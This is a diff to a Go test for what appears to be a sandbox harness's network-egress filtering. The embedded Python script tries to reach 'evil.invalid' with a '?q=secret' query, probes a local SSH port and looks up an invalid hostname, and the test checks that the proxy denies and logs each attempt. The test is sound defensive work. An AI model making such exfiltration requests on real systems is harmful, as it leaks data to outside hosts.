@@ -36,11 +36,13 @@ func TestCommandWayOut(t *testing.T) {
 	h := newHost(t)
 	tester := h.egressPack(`env | grep -i proxy | sort; cat /etc/resolv.conf
 python3 - <<'P'
-import urllib.request as u
+import socket, urllib.request as u
+try: print(socket.gethostbyname("missing.invalid"))
+except OSError: pass
 for url in ("https://evil.invalid/", "http://evil.invalid/?q=secret", "https://allowed.invalid/", "http://127.0.0.1:22/"):
     try: u.urlopen(url, timeout=20); print(url, "reached")
     except Exception as e: print(url, e)
-P`, "runtime: {network: {transparent: true}}\n")
+P`, "")
 	output := filepath.Join(h.dir, "out")
 	h.sbench(0, "run", "--quiet", "--config", tester, "--output-dir", output)
 	type line struct {
@@ -60,7 +62,7 @@ P`, "runtime: {network: {transparent: true}}\n")
 		records[r.Task] = r
 	}
 	open := records["open"]
-	for _, want := range []string{"HTTPS_PROXY=http://127.0.0.1:3128", "https_proxy=", "ALL_PROXY=", "no_proxy=127.0.0.1,localhost", "nameserver 127.0.0.1", "evil.invalid/ <urlopen error Tunnel connection failed: 403", "evil.invalid/?q=secret HTTP Error 403"} {
+	for _, want := range []string{"HTTPS_PROXY=http://127.0.0.1:3128", "https_proxy=", "ALL_PROXY=", "no_proxy=127.0.0.1,localhost", "nameserver 127.0.0.1", "JAVA_TOOL_OPTIONS=-Dhttp.proxyHost=127.0.0.1 -Dhttp.proxyPort=3128", "evil.invalid/ <urlopen error Tunnel connection failed: 403", "evil.invalid/?q=secret HTTP Error 403"} {
 		if !strings.Contains(open.Out, want) {
 			t.Errorf("the harness does not say %q:\n%s", want, open.Out)
 		}
@@ -73,7 +75,7 @@ P`, "runtime: {network: {transparent: true}}\n")
 	}
 	log, err := os.ReadFile(filepath.Join(output, "egress.jsonl"))
 	must(t, err)
-	for _, want := range []string{`"kind":"connect","host":"evil.invalid","port":443`, `"verdict":"deny"`, `"host":"allowed.invalid"`, `"verdict":"error"`, `"task":"open"`} {
+	for _, want := range []string{`"kind":"connect","host":"evil.invalid","port":443`, `"kind":"dns","host":"missing.invalid","verdict":"deny"`, `"verdict":"deny"`, `"host":"allowed.invalid"`, `"verdict":"error"`, `"task":"open"`} {
 		if !strings.Contains(string(log), want) {
 			t.Errorf("the egress log lacks %s:\n%s", want, log)
 		}
